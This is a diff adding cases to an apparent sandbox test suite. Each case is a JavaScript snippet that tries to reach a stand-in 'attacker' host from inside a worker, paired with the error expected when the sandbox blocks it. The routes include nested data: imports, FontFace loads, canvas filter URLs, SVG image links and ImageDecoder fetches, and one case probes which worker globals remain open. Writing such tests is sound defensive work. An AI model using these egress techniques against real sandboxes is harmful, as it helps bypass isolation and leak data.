@@ -122,9 +122,14 @@ export const network: Attack[] = [
     blocked: 'TypeError',
   },
   {
-    name: 'import() of data:',
-    body: 'await new Function("at", "return import(at)")("data:text/javascript,export default 1"); return "imported"',
+    name: 'import() of data: that imports from a host',
+    body: 'await new Function("at", "return import(at)")("data:text/javascript," + encodeURIComponent("import \'" + attacker + "/nested.js\'; export default 1")); return "imported"',
     blocked: 'TypeError',
+  },
+  {
+    name: 'import() of data: that finds the doors of the worker open',
+    body: 'const { default: found } = await new Function("at", "return import(at)")("data:text/javascript," + encodeURIComponent("export default [\'Worker\', \'importScripts\', \'caches\', \'indexedDB\'].filter((name) => name in globalThis).join()")); if (found === "") throw named("nothing open"); return found',
+    blocked: 'nothing open',
   },
   {
     name: 'import() of blob:',
@@ -175,6 +180,26 @@ export const network: Attack[] = [
     name: 'fetchLater',
     body: 'absent("fetchLater"); return fetchLater(attacker + "/later").activated',
     blocked: 'absent',
+  },
+  {
+    name: 'a font of the worker’s own set',
+    body: 'absent("fonts"); fonts.add(new FontFace("y", "url(" + attacker + "/set.woff2)")); const loaded = await fonts.load("12px y"); if (loaded.length === 0) throw named("none"); return "loaded"',
+    blocked: 'NetworkError',
+  },
+  {
+    name: 'a canvas’s filter from an address',
+    body: 'const c = new OffscreenCanvas(8, 8).getContext("2d"); c.filter = "url(" + attacker + "/filter.svg#f)"; c.fillRect(0, 0, 8, 8); c.getImageData(0, 0, 1, 1); await new Promise((go) => setTimeout(go, 300)); throw named("drawn without it")',
+    blocked: 'drawn without it',
+  },
+  {
+    name: 'a picture inside an SVG',
+    body: 'const svg = "<svg xmlns=\\"http://www.w3.org/2000/svg\\" width=\\"8\\" height=\\"8\\"><image href=\\"" + attacker + "/svg.png\\" width=\\"8\\" height=\\"8\\"/></svg>"; await createImageBitmap(new Blob([svg], { type: "image/svg+xml" })); return "drawn"',
+    blocked: 'InvalidStateError',
+  },
+  {
+    name: 'ImageDecoder of a response',
+    body: 'const decoder = new ImageDecoder({ type: "image/png", data: (await fetch(attacker + "/decoder.png")).body }); await decoder.completed; return "decoded"',
+    blocked: 'TypeError',
   },
   {
     name: 'instantiateStreaming',
